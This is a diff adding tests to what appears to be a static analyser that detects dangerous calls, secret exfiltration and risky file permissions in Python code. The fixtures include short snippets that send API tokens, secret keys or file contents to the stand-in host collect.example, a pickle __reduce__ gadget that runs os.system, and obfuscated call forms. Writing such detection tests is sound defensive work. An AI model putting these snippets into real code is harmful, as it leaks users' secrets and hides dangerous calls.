@@ -34,6 +34,13 @@ describe("names of what is called", () => {
 			"socket.socket().connect",
 		],
 		["with open('a') as f:\n    f.fancy()", "open().fancy"],
+		["import os\nos.remove.__call__('a')", "os.remove"],
+		["vars(os).get('remove')('a')", "os.remove"],
+		["d = {'x': os.remove}\nd['x']('a')", "os.remove"],
+		["d = {'x': os.remove}\nd.get('x')('a')", "os.remove"],
+		["p = Popen(['a'])", "subprocess.Popen"],
+		["x = windll.kernel32\nx.VirtualAlloc(0)", "ctypes.windll.kernel32.VirtualAlloc"],
+		["class A:\n    def __reduce__(self):\n        return os.system, ('id')", "os.system"],
 	])("%j", (code, name) => expect(calls(code)).toContain(name));
 
 	it.each([
@@ -42,6 +49,8 @@ describe("names of what is called", () => {
 		["def system(x): ...\nsystem('a')", "system"],
 		["class A:\n    def eval(self): ...\nA().eval()", "eval"],
 		["# eval(x)\nprint('eval(y)')", "eval"],
+		["def rmtree(x): ...\nrmtree('a')", "shutil.rmtree"],
+		["for one in cls.__subclasses__():\n    one()", "__subclasses__"],
 	])("%j calls no %s", (code, name) => expect(calls(code)).not.toContain(name));
 });
 
@@ -159,4 +168,38 @@ it.each([
 	const began = performance.now();
 	read(`x='a'*4000\n${part.repeat(Math.ceil(30_000 / part.length))}`);
 	expect(performance.now() - began).toBeLessThan(2_000);
+});
+
+describe("what is read and then sent", () => {
+	const sent = (text: string): boolean =>
+		read(text).facts.some(
+			({ kind, has }) => kind === "call" && has["carries"] !== undefined && has["name"]?.includes("sends") === true,
+		);
+
+	it.each([
+		"def tell(x):\n    requests.post(u, data=x)\ntell(os.environ['API_TOKEN'])",
+		"def pack():\n    return open('a').read()\nput('https://collect.example/x', pack())",
+		"import platform\nreport(url='https://collect.example/x', body=platform.node())",
+		"class A:\n    def __init__(self):\n        if x:\n            self.k = environ.get('SECRET_KEY')\n        else:\n            self.k = ''\n    def go(self):\n        note('https://collect.example/' + self.k)",
+	])("is followed: %j", (code) => expect(sent(code)).toBe(true));
+
+	it.each([
+		"def tell(x):\n    print(x)\ntell(os.environ['API_TOKEN'])",
+		"import platform\nreport(url='http://localhost:9/x', body=platform.node())",
+		"print('https://docs.example/', os.environ['API_TOKEN'])",
+	])("is not seen in %j", (code) => expect(sent(code)).toBe(false));
+});
+
+describe("modes of files", () => {
+	const modes = (text: string): readonly string[] =>
+		read(text).facts.flatMap(({ has }) => (has["name"]?.[0] === "os.chmod" ? (has["mode"] ?? []) : []));
+
+	it.each([
+		["os.chmod(f, 0o777)", ["execute", "world"]],
+		["os.chmod(f, 0o4755)", ["execute", "rights"]],
+		["os.chmod(f, 0o600)", []],
+		["os.chmod(f, os.stat(f).st_mode | stat.S_IEXEC)", ["execute"]],
+		// Of decimal: the bits are others than they seem.
+		["os.chmod(f, 777)", ["execute"]],
+	])("%s", (code, expected) => expect(modes(code)).toEqual(expected));
 });
